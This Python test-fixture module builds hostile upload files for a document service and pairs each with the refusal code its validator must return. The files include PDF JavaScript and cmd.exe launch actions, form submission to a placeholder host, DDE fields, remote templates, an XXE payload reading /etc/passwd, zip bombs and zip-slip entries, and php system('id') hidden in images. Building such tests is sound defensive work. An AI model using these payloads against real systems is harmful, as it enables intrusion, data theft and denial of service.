"""Files made to do harm: at least one of every kind in security.md V10 and T11, with the code that must refuse it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf

from tests.services.documents.good_files import (
    DOCX_MAIN,
    archive,
    content_types,
    docx,
    pdf,
    picture,
    relation,
    save_pdf,
    xlsx,
)

SCRIPT = b"<script>alert(1)</script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True, slots=True)
class Hostile:
    declared: str
    make: Callable[[], bytes]
    #: The refusal; None where the harm is taken out and the rest is kept.
    code: str | None


def _with_root(**entries: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    for key, value in entries.items():
        document.Root[f"/{key}"] = value
    return save_pdf(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _action(kind: str, **entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **entries)


def pdf_with_attachment() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["run.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="run.exe")
    return save_pdf(document)


def pdf_with_deep_script() -> bytes:
    """The action hangs directly in an annotation in an array in a page: no object of its own."""
    document = pikepdf.new()
    page = document.add_blank_page()
    annotation = pikepdf.Dictionary(
        Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=_action("URI", Next=[_action("JavaScript", JS="x")])
    )
    page.obj.Annots = [annotation]
    return save_pdf(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def encrypted_pdf(user: str) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    return save_pdf(document, encryption=pikepdf.Encryption(owner="owner", user=user))


def zip_hidden_in_pdf() -> bytes:
    """The zip stands before the end mark; its comment swallows the rest, so that both readers are content."""
    document = pdf(1)
    start = document.rindex(b"startxref")
    inner = bytearray(archive({"run.exe": b"MZ"}))
    tail = document[start:]
    inner[-2:] = struct.pack("<H", len(tail) + 1)
    return document[:start] + b"%" + bytes(inner) + b"\n" + tail


def pixel_flood() -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(7501 * 1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def overlapping_bomb() -> bytes:
    """Two directory entries that share one body."""
    written = bytearray(archive({"a.pdf": pdf(), "b.pdf": pdf()}))
    first = written.index(b"PK\x01\x02")
    second = written.index(b"PK\x01\x02", first + 4)
    written[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(written)


def lying_bomb() -> bytes:
    """The directory promises a few bytes; the stream holds fifty million."""
    written = bytearray(archive({"a.pdf": bytes(50_000_000)}))
    written[22:26] = struct.pack("<I", 100)
    at = written.index(b"PK\x01\x02")
    written[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(written)


def encrypted_zip() -> bytes:
    written = bytearray(archive({"a.pdf": pdf()}))
    written[6] |= 1
    written[written.index(b"PK\x01\x02") + 8] |= 1
    return bytes(written)


def symlink_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        info = zipfile.ZipInfo("a.pdf")
        info.external_attr = 0o120777 << 16
        out.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def xml_with_doctype(encoding: str = "utf-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    )
    return text.encode(encoding)


def dde_field() -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    words = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in ("DD", "EAUTO c:\\\\cmd.exe"))
    return docx({"word/footer1.xml": f'<w:ftr xmlns:w="{space}"><w:p>{words}</w:p></w:ftr>'.encode()})


RELS = "word/_rels/document.xml.rels"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"

HOSTILE: dict[str, Hostile] = {
    "html before pdf": Hostile("pdf", lambda: SCRIPT + pdf(), "file_polyglot"),
    "html after pdf": Hostile("pdf", lambda: pdf() + SCRIPT, "file_polyglot"),
    "much html after pdf": Hostile("pdf", lambda: pdf() + SCRIPT * 9000, "file_polyglot"),
    "zip after pdf": Hostile("pdf", lambda: pdf() + archive({"run.exe": b"MZ"}), "file_polyglot"),
    "zip inside pdf": Hostile("pdf", zip_hidden_in_pdf, "file_polyglot"),
    "html called pdf": Hostile("pdf", lambda: b"<html>" + SCRIPT, "file_content_mismatch"),
    "program called pdf": Hostile("pdf", lambda: b"MZ" + bytes(4000), "file_content_mismatch"),
    "pdf script on opening": Hostile(
        "pdf", lambda: _with_root(OpenAction=_action("JavaScript", JS="app.alert(1)")), "file_active_content"
    ),
    "pdf script in object streams": Hostile("pdf", pdf_with_deep_script, "file_active_content"),
    "pdf script by name tree": Hostile(
        "pdf",
        lambda: _with_root(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[]))),
        "file_active_content",
    ),
    "pdf launches": Hostile(
        "pdf", lambda: _with_root(OpenAction=_action("Launch", F="cmd.exe")), "file_active_content"
    ),
    "pdf sends its form": Hostile(
        "pdf", lambda: _with_root(AA=pikepdf.Dictionary(WC=_action("SubmitForm", F="http://x/"))), "file_active_content"
    ),
    "pdf with attachment": Hostile("pdf", pdf_with_attachment, "file_embedded_file"),
    "pdf with xfa": Hostile("pdf", lambda: _with_root(AcroForm=pikepdf.Dictionary(XFA="x")), "file_xfa_form"),
    "encrypted pdf": Hostile("pdf", lambda: encrypted_pdf("secret"), "file_encrypted"),
    "locked pdf": Hostile("pdf", lambda: encrypted_pdf(""), "file_encrypted"),
    "truncated pdf": Hostile("pdf", lambda: pdf(20)[:-300], "file_truncated"),
    "pdf without pages": Hostile("pdf", lambda: pdf(0), "file_damaged"),
    "nothing": Hostile("pdf", lambda: b"", "file_empty"),
    "pixel flood": Hostile("png", pixel_flood, "file_picture_too_large"),
    "truncated jpeg": Hostile("jpg", lambda: picture()[:-200], "file_damaged"),
    "truncated png": Hostile("png", lambda: picture("PNG")[:-40], "file_damaged"),
    "svg called png": Hostile(
        "png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "file_content_mismatch"
    ),
    "gif with script called jpg": Hostile("jpg", lambda: b"GIF89a/*" + SCRIPT, "file_content_mismatch"),
    "jpeg with php behind": Hostile("jpg", lambda: picture() + b"<?php system('id');", None),
    "jpeg with php in a comment": Hostile("jpg", lambda: picture("JPEG", comment=b"<?php system('id');"), None),
    "png with script behind": Hostile("png", lambda: picture("PNG") + SCRIPT, None),
    "jpeg with zip behind": Hostile("jpg", lambda: picture() + archive({"run.exe": b"MZ"}), None),
    "macro in docx": Hostile("docx", lambda: docx({"word/vbaProject.bin": b"x"}), "file_macro"),
    "docm called docx": Hostile("docx", lambda: docx(main=MACRO_TYPE), "file_macro"),
    "old doc called docx": Hostile("docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "file_old_office"),
    "ole object in docx": Hostile(
        "docx", lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "file_embedded_object"
    ),
    "remote template": Hostile(
        "docx",
        lambda: docx({RELS: relation("attachedTemplate", "http://x/t.dotm", "External")}),
        "file_external_reference",
    ),
    "remote picture": Hostile(
        "docx", lambda: docx({RELS: relation("image", "http://x/p.png", "External")}), "file_external_reference"
    ),
    "external entity": Hostile("docx", lambda: docx({"word/a.xml": xml_with_doctype()}), "file_external_reference"),
    "external entity in utf-16": Hostile(
        "docx", lambda: docx({"word/a.xml": xml_with_doctype("utf-16")}), "file_external_reference"
    ),
    "dde field": Hostile("docx", dde_field, "file_external_reference"),
    "dde link in xlsx": Hostile(
        "xlsx",
        lambda: xlsx({"xl/externalLinks/e.xml": b'<e><ddeLink ddeService="cmd"/></e>'}),
        "file_external_reference",
    ),
    "macro sheet in xlsx": Hostile("xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}), "file_macro"),
    "zip called docx": Hostile("docx", lambda: archive({"a.txt": b"a"}), "file_content_mismatch"),
    "xlsx called docx": Hostile("docx", xlsx, "file_content_mismatch"),
    "docx within docx within docx": Hostile(
        "docx",
        lambda: docx({"word/embeddings/a.docx": docx({"word/embeddings/b.docx": docx()})}),
        "file_embedded_object",
    ),
    "docx with html before": Hostile("docx", lambda: SCRIPT + docx(), "file_content_mismatch"),
    "docx with html behind": Hostile("docx", lambda: docx() + SCRIPT, "file_polyglot"),
    "docx bomb": Hostile("docx", lambda: docx({"word/media/a.xml": bytes(90_000_000)}), "file_archive_bomb"),
    "zip bomb": Hostile("zip", lambda: archive({"a.pdf": bytes(90_000_000)}), "file_archive_bomb"),
    "zip of many entries": Hostile("zip", lambda: archive({f"{n}.pdf": b"" for n in range(4000)}), "file_archive_bomb"),
    "overlapping bomb": Hostile("zip", overlapping_bomb, "file_archive_bomb"),
    "lying bomb": Hostile("zip", lying_bomb, "file_damaged"),
    "zip in zip": Hostile("zip", lambda: archive({"a.zip": archive({"b.pdf": pdf()})}), "file_in_archive_refused"),
    "program in zip": Hostile("zip", lambda: archive({"a.pdf.exe": b"MZ"}), "file_in_archive_refused"),
    "script pdf in zip": Hostile(
        "zip",
        lambda: archive({"a.pdf": _with_root(OpenAction=_action("JavaScript", JS="x"))}),
        "file_in_archive_refused",
    ),
    "zip slip": Hostile("zip", lambda: archive({"../../a.pdf": pdf()}), "file_archive_unsafe_name"),
    "absolute name in zip": Hostile("zip", lambda: archive({"/etc/a.pdf": pdf()}), "file_archive_unsafe_name"),
    "drive letter in zip": Hostile("zip", lambda: archive({"C:\\a.pdf": pdf()}), "file_archive_unsafe_name"),
    "link in zip": Hostile("zip", symlink_zip, "file_archive_unsafe_name"),
    "encrypted zip": Hostile("zip", encrypted_zip, "file_encrypted"),
    "zip with a strange method": Hostile(
        "zip", lambda: archive({"a.pdf": pdf()}, zipfile.ZIP_LZMA), "file_archive_method"
    ),
    "empty zip": Hostile("zip", lambda: archive({}), "file_empty"),
    "types without main part": Hostile(
        "docx", lambda: archive({"[Content_Types].xml": content_types(DOCX_MAIN + "x", "a")}), "file_content_mismatch"
    ),
}
